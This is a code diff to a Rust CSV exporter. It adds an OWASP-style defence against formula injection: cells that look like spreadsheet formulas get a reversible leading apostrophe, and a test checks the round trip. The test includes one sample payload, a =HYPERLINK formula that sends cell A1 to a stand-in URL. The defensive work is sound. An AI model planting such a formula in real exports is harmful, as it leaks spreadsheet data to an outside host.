@@ -1,5 +1,10 @@
 //! CSV argument maps: `sentences.csv`, `links.csv` and `documents.csv` (RFC 4180, UTF-8, with a
 //! header row).
+//!
+//! Text cells (`doc_id`, `path`, `text`, `error`) are neutralised against formula injection by
+//! default, as OWASP recommends for CSV opened in spreadsheets: a cell that begins with `=`, `+`,
+//! `-`, `@`, a tab or a carriage return (after any `'`) gets a leading `'`, which spreadsheets
+//! show as text and [`read_csv_maps`] removes again. [`CsvOptions::raw`] writes cells as they are.
 
 use crate::document::{ArgumentMap, Role};
 use crate::Result;
@@ -36,12 +41,49 @@ pub const DOCUMENTS_HEADER: [&str; 9] = [
     "error",
 ];
 
+/// How CSV cells are written.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct CsvOptions {
+    /// Write text cells exactly as they are (for programs); the default neutralises cells a
+    /// spreadsheet would run as a formula.
+    pub raw: bool,
+}
+
+/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell needs a leading `'`: it starts with a formula character, possibly after `'`s
+/// (so that the `'` added here can be told from one of the text's own and removed exactly).
+/// A lone character is no formula (`-` is standard input's path), so it is left as it is.
+fn needs_quote(cell: &str) -> bool {
+    let t = cell.trim_start_matches('\'');
+    t.starts_with(|c| FORMULA_START.contains(&c)) && t.chars().nth(1).is_some()
+}
+
+/// A text cell as written: with a leading `'` when a spreadsheet would run it as a formula.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// The inverse of [`neutralise`]: the cell as the text had it.
+pub fn unneutralise(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_quote(rest) => rest,
+        _ => cell,
+    }
+}
+
 /// Writes argument maps as three CSV streams. Probabilities and scores are written with four
 /// decimals, so that output is byte-identical from run to run.
 pub struct CsvExporter<W: Write> {
     sentences: ::csv::Writer<W>,
     links: ::csv::Writer<W>,
     documents: ::csv::Writer<W>,
+    options: CsvOptions,
 }
 
 impl<W: Write> std::fmt::Debug for CsvExporter<W> {
@@ -58,7 +100,12 @@ fn p(x: f32) -> String {
 impl<W: Write> CsvExporter<W> {
     /// An exporter over three writers; the header rows are written at once.
     pub fn new(sentences: W, links: W, documents: W) -> Result<Self> {
-        let mut e = Self::rows_only(sentences, links, documents);
+        Self::with_options(sentences, links, documents, CsvOptions::default())
+    }
+
+    /// As [`CsvExporter::new`], writing cells as `options` say.
+    pub fn with_options(sentences: W, links: W, documents: W, options: CsvOptions) -> Result<Self> {
+        let mut e = Self::rows_only(sentences, links, documents, options);
         e.sentences.write_record(SENTENCES_HEADER)?;
         e.links.write_record(LINKS_HEADER)?;
         e.documents.write_record(DOCUMENTS_HEADER)?;
@@ -66,12 +113,22 @@ impl<W: Write> CsvExporter<W> {
     }
 
     /// An exporter that writes rows only, no header rows (for rows assembled into files later).
-    pub fn rows_only(sentences: W, links: W, documents: W) -> Self {
+    pub fn rows_only(sentences: W, links: W, documents: W, options: CsvOptions) -> Self {
         let mk = |w| ::csv::WriterBuilder::new().from_writer(w);
         Self {
             sentences: mk(sentences),
             links: mk(links),
             documents: mk(documents),
+            options,
+        }
+    }
+
+    /// A text cell as this exporter writes it.
+    fn cell<'a>(&self, s: &'a str) -> std::borrow::Cow<'a, str> {
+        if self.options.raw {
+            s.into()
+        } else {
+            neutralise(s)
         }
     }
 
@@ -82,8 +139,12 @@ impl<W: Write> CsvExporter<W> {
 
     /// Write one document's argument map, and its row in `documents.csv` with status `ok`.
     pub fn write_map(&mut self, path: &str, map: &ArgumentMap) -> Result<()> {
-        let id = map.doc_id.as_str();
+        let id = self.cell(&map.doc_id).into_owned();
+        let id = id.as_str();
+        let path = self.cell(path).into_owned();
+        let path = path.as_str();
         for s in &map.sentences {
+            let text = self.cell(&s.text);
             self.sentences.write_record([
                 id,
                 &s.id.to_string(),
@@ -97,7 +158,7 @@ impl<W: Write> CsvExporter<W> {
                 &p(s.probs[2]),
                 &p(s.probs[3]),
                 &s.n_tokens.to_string(),
-                &s.text,
+                &text,
             ])?;
         }
         for l in &map.links {
@@ -125,8 +186,18 @@ impl<W: Write> CsvExporter<W> {
 
     /// Write the `documents.csv` row of a document that failed, with status `error`.
     pub fn write_failure(&mut self, doc_id: &str, path: &str, error: &str) -> Result<()> {
+        let [doc_id, path, error] = [doc_id, path, error].map(|c| self.cell(c).into_owned());
         self.documents
-            .write_record([doc_id, path, "0", "0", "0", "0", "0", "error", error])?;
+            .write_record([&doc_id, &path, "0", "0", "0", "0", "0", "error", &error])?;
+        Ok(())
+    }
+
+    /// Write the `documents.csv` row of a folder entry that is not a document (a FIFO, a broken
+    /// link, ...), with status `skipped` and the reason in `error`.
+    pub fn write_skipped(&mut self, doc_id: &str, path: &str, reason: &str) -> Result<()> {
+        let [doc_id, path, reason] = [doc_id, path, reason].map(|c| self.cell(c).into_owned());
+        self.documents
+            .write_record([&doc_id, &path, "0", "0", "0", "0", "0", "skipped", &reason])?;
         Ok(())
     }
 
@@ -145,7 +216,8 @@ impl<W: Write> CsvExporter<W> {
 }
 
 /// Read back the CSV maps `argmine mine` wrote (`sentences.csv` and `links.csv`) as
-/// predictions to score: one [`crate::eval::PredDocument`] per `doc_id`, in file order.
+/// predictions to score: one [`crate::eval::PredDocument`] per `doc_id`, in file order. Ids
+/// neutralised against formula injection are read back as they were.
 pub fn read_csv_maps<R1: std::io::Read, R2: std::io::Read>(
     sentences: R1,
     links: R2,
@@ -183,9 +255,10 @@ pub fn read_csv_maps<R1: std::io::Read, R2: std::io::Read>(
             end: num(cb)?,
             role: rec[cr].parse().map_err(bad)?,
         };
-        let k = *index.entry(rec[cd].to_string()).or_insert_with(|| {
+        let id = unneutralise(&rec[cd]);
+        let k = *index.entry(id.to_string()).or_insert_with(|| {
             docs.push(crate::eval::PredDocument {
-                id: rec[cd].to_string(),
+                id: id.to_string(),
                 ..Default::default()
             });
             docs.len() - 1
@@ -198,7 +271,7 @@ pub fn read_csv_maps<R1: std::io::Read, R2: std::io::Read>(
         if rec.len() < 4 {
             return Err(bad("links.csv row with fewer than 4 columns".into()));
         }
-        if let Some(&k) = index.get(&rec[0]) {
+        if let Some(&k) = index.get(unneutralise(&rec[0])) {
             docs[k].links.push(crate::eval::PredLink {
                 source: rec[1].to_string(),
                 target: rec[2].to_string(),
@@ -214,6 +287,29 @@ mod tests {
     use super::*;
     use crate::document::{Link, Relation, Sentence};
     use crate::text::Span;
+
+    #[test]
+    fn formula_cells_are_neutralised_reversibly() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
+                "'=HYPERLINK(\"http://x/?\"&A1,\"y\")",
+            ),
+            ("+1", "'+1"),
+            ("- a bullet", "'- a bullet"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("'=x", "''=x"),
+            ("'quoted'", "'quoted'"),
+            ("plain", "plain"),
+            ("-", "-"),
+            ("'-", "'-"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise(cell), written, "{cell:?}");
+            assert_eq!(unneutralise(written), cell, "{written:?}");
+        }
+    }
 
     #[test]
     fn writes_rfc4180_rows() {
